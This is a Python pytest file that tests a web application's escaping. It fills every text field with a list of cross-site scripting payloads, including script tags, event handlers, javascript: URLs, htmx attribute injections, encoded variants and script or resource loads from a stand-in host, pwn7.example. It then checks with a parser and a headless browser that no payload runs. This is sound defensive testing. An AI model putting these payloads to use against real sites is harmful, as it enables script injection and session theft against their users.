"""Markup that somebody writes into any field: every page shows it as text, and no browser runs a word of it."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Error as PlaywrightError
from werkzeug.serving import make_server

from rapport.builtin.web.design import STATIC
from rapport.entities import Field
from rapport.http import public
from rapport.testing import TestApp
from rapport.testing.app import PASSWORD
from tests.conftest import CHROMIUM
from tests.security.kinds import one_of_each, whole_site
from tests.torture import LONG, tally, tries
from tests.web.test_statements import pages

MARK = "pwn7"
FOREIGN = "http://pwn7.example"
PAYLOADS = [
    "<script>alert('pwn7')</script>",
    '"><script>alert("pwn7")</script>',
    "'><script>alert(`pwn7`)</script>",
    "</title><script>alert('pwn7')</script>",
    "</textarea><script>alert('pwn7')</script>",
    "</script><script>alert('pwn7')</script>",
    "</style><script>alert('pwn7')</script>",
    "<!--><script>alert('pwn7')</script>",
    "<ScRiPt src=//pwn7.example/a.js></sCrIpT>",
    f"<script src={FOREIGN}/a.js></script>",
    "<img src=x onerror=alert('pwn7')>",
    "<img src=x onerror=alert('pwn7')//",
    "<img/src=x/onerror=alert('pwn7')>",
    f"<img src={FOREIGN}/a.png>",
    f"<img srcset='{FOREIGN}/a.png 1x'>",
    "<svg onload=alert('pwn7')>",
    "<svg/onload=alert('pwn7')//",
    "<svg><script>alert('pwn7')</script></svg>",
    "<svg><animate onbegin=alert('pwn7') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert('pwn7')><text y=20>x</text></a></svg>",
    f"<svg><image href={FOREIGN}/a.png></svg>",
    f"<svg><use href='{FOREIGN}/a.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('pwn7')>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('pwn7')>",
    "<noscript><p title='</noscript><img src=x onerror=alert(`pwn7`)>'>",
    "<body onload=alert('pwn7')>",
    "<input autofocus onfocus=alert('pwn7')>",
    '" autofocus onfocus="alert(`pwn7`)',
    "' autofocus onfocus='alert(`pwn7`)",
    '" onmouseover="alert(`pwn7`)" style="position:fixed;inset:0',
    "<details open ontoggle=alert('pwn7')>",
    "<video><source onerror=alert('pwn7')>",
    "<audio src=x onerror=alert('pwn7')>",
    "<marquee onstart=alert('pwn7')>",
    "<iframe src=javascript:alert('pwn7')></iframe>",
    "<iframe srcdoc='<script>alert(`pwn7`)</script>'></iframe>",
    f"<iframe src={FOREIGN}></iframe>",
    "<object data=javascript:alert('pwn7')>",
    f"<embed src={FOREIGN}/a.swf>",
    f"<base href={FOREIGN}/>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/'>",
    f"<link rel=stylesheet href={FOREIGN}/a.css>",
    f"<style>@import '{FOREIGN}/a.css';</style>",
    f"<p style=background:url({FOREIGN}/a.png)>x",
    "<a href=javascript:alert('pwn7')>x</a>",
    "javascript:alert('pwn7')",
    "JaVaScRiPt:alert('pwn7')//https://",
    "java\tscript:alert('pwn7')",
    "data:text/html,<script>alert('pwn7')</script>",
    "vbscript:msgbox('pwn7')",
    "https://pwn7.example/\"onmouseover=\"alert('pwn7')",
    "[x](javascript:alert('pwn7'))",
    "![x](http://pwn7.example/a.png)",
    f"<form action={FOREIGN}><button>x</button></form>",
    f"<button formaction={FOREIGN} form=x>x</button>",
    f"<div hx-get={FOREIGN} hx-trigger=load>x</div>",
    f"<div data-hx-get={FOREIGN} data-hx-trigger=load>x</div>",
    "<div hx-on::load=alert('pwn7')>x</div>",
    "<div hx-on:click=alert('pwn7') hx-trigger=load>x</div>",
    "<div hx-vals='js:{a:alert(`pwn7`)}' hx-get=/ hx-trigger=load>x</div>",
    '" hx-get="/pwn7" hx-trigger="load',
    "<div hx-ext=pwn7 hx-boost=true><a href=/pwn7>x</a></div>",
    "<template><script>alert('pwn7')</script></template>",
    "<xmp><img src=x onerror=alert('pwn7')></xmp>",
    "{{ 191*7 }}pwn7",
    "${alert('pwn7')}",
    "\u2028alert('pwn7')//",
    "<\x0bscript>alert('pwn7')</script>",
    "＜script＞alert('pwn7')＜/script＞",
    "&lt;script&gt;alert('pwn7')&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert('pwn7')&#x3e;",
    "%3Cscript%3Ealert('pwn7')%3C/script%3E",
    "<a\u200dhref=x>pwn7",
]
LOADING = {
    "src",
    "srcset",
    "srcdoc",
    "action",
    "formaction",
    "style",
    "data",
    "xlink:href",
    "poster",
    "background",
    "ping",
}
FORBIDDEN = {"base", "iframe", "object", "embed", "frame", "marquee", "math", "foreignobject", "video", "audio", "xmp"}


class Payloads:
    """Gives each text of each record another payload; what it does not take is tried with the next."""

    def __init__(self) -> None:
        self.number = 0
        self.fields: set[tuple[int, str]] = set()

    def __call__(self, field: Field, usual: Any) -> Any:
        if field.kind not in {"text", "longtext", "url", "tags", "address"} or field.choices or field.target:
            return usual
        self.number += 1
        text = PAYLOADS[self.number % len(PAYLOADS)]
        text = text[: field.max_length] if field.kind == "text" else text
        self.fields.add((id(field), field.name))
        if field.kind == "tags":
            return [text[:60].replace(",", " ")]
        return {"street": text, "city": text[:100]} if field.kind == "address" else text


class Faults(HTMLParser):
    """What in a page was written by a payload and not by us."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.shown = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        told = f"<{tag} {given}>"[:300]
        if tag in FORBIDDEN or (tag == "script" and MARK in given.get("src", MARK)):
            self.found.append(told)
        for name, value in given.items():
            plain = "".join(value.split()).lower()
            ours = not name.startswith(("on", "hx-on", "data-hx-on"))
            if not ours or (MARK in value and (name in LOADING or name.startswith(("hx-", "data-hx-")))):
                self.found.append(told)
            if name in {"href", "action", "formaction", "src"} and plain.startswith(
                ("javascript:", "data:text", "vbscript:")
            ):
                self.found.append(told)

    def handle_data(self, data: str) -> None:
        self.shown += data.count(MARK)
        if self.lasttag in {"script", "style"} and MARK in data and self.rawdata.find(MARK) >= 0 and self.cdata_elem:
            self.found.append(f"within {self.cdata_elem}: {data[:200]}")


@contextlib.contextmanager
def hostile(home: Path, database_url: str = "") -> Iterator[tuple[TestApp, list[str], int]]:
    """A site where every text is a payload, its addresses, and how many fields hold one."""
    with whole_site(home, database_url) as app:
        value = Payloads()
        made = one_of_each(app, value)
        made |= {f"{name} again": each for name, each in one_of_each(app, value).items()}
        app.settle()
        with app.site.write(app.admin) as unit:
            unit.update(unit.get(app.site.entities["user"], app.admin.id), {"name": "<b onclick=alert('pwn7')>Ada"})
        known: dict[str, list[Any]] = {}
        for name, each in made.items():
            known.setdefault(name.removesuffix(" again"), []).append(each)
        yield app, pages(app, known), len(value.fields)


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_every_page_shows_markup_as_text(database_url: str, tmp_path: Path) -> None:
    with hostile(tmp_path, database_url) as (app, found, fields):
        browser, wrong, shown, seen = app.browser(), [], 0, 0
        for url in found[:: tries(4, long=1)]:
            with browser.get(url) as answer:
                if answer.status_code >= 500:
                    wrong.append((url, str(answer.status_code)))
                if answer.mimetype != "text/html":
                    continue
                read = Faults()
                read.feed(answer.get_data(as_text=True))
            seen += 1
            shown += read.shown
            wrong += [(url, each) for each in read.found]
        assert wrong == []
        assert shown > 500
    tally("B5", "markup in every field, read by a parser", tried=shown, pages=seen, fields=fields, run=0)


@contextlib.contextmanager
def looked_at(app: TestApp, chromium: Any) -> Iterator[tuple[Any, list[str]]]:
    """A page in a browser, signed in, and what the browser did that it should not: asked, called, refused."""
    server = make_server("127.0.0.1", 0, app.flask, threaded=True)
    address = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    done: list[str] = []
    context = chromium.new_context(base_url=address, reduced_motion="reduce")
    try:
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.on("dialog", lambda dialog: (done.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda sent: None if sent.url.startswith((address, "data:image")) else done.append(sent.url))
        page.on("console", lambda told: done.append(told.text) if "Content Security Policy" in told.text else None)
        page.goto("/sign-in")
        page.locator("input[name=email]").fill(app.admin.email)
        page.locator("input[name=password]").fill(PASSWORD)
        page.locator("main button[type=submit], form button[type=submit]").first.click()
        page.locator(".r-nav").wait_for(state="attached")
        yield page, done
    finally:
        context.close()
        server.shutdown()
        thread.join(10)
        server.server_close()


@pytest.mark.skipif(CHROMIUM is None or not (STATIC / "manifest.json").exists(), reason="needs Chromium and the assets")
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_browser_runs_no_word_of_it(database_url: str, tmp_path: Path, chromium: Any) -> None:
    with hostile(tmp_path, database_url) as (app, found, fields):
        shown = [url for url in found if app.browser().get(url).mimetype == "text/html"] if LONG else found
        chosen = shown[:: 1 if LONG else max(1, len(shown) // 14)]
        app.flask.add_url_rule("/control", view_func=public(lambda: "<p>" + "<p>".join(PAYLOADS)))
        with looked_at(app, chromium) as (page, done):
            seen = 0
            for url in chosen:
                with contextlib.suppress(PlaywrightError):  # a file for saving is no page
                    page.goto(url, wait_until="load")
                    seen += 1
                    for button in page.locator("[data-confirm], [hx-confirm]").all()[:2]:
                        button.evaluate("each => each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))")
            assert done == []
            assert seen > 10
            page.goto("/control", wait_until="load")
            assert len(done) > 10
    tally("B5", "markup in every field, in a browser", tried=seen, fields=fields, run=0, control=len(done))


def test_markup_that_is_not_escaped_is_found() -> None:
    """The control."""
    caught = 0
    for payload in PAYLOADS:
        for around in ("<p>{}</p>", '<p title="{}">', "<p title='{}'>", '<a href="{}">x</a>'):
            read = Faults()
            read.feed(around.format(payload))
            read.close()
            caught += bool(read.found)
    assert caught > 60
    tally("B5", "markup in every field, read by a parser", control=caught)
